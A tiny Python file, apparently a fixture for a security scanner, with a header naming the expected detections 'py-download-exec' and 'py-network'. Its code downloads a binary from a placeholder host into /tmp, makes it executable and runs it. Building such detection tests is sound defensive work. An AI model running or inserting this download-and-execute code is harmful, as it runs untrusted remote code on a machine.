# expect: py-download-exec,py-network
import os, urllib.request, stat
urllib.request.urlretrieve('http://x.example/bin', '/tmp/b')
os.chmod('/tmp/b', 0o755)
os.execv('/tmp/b', ['b'])
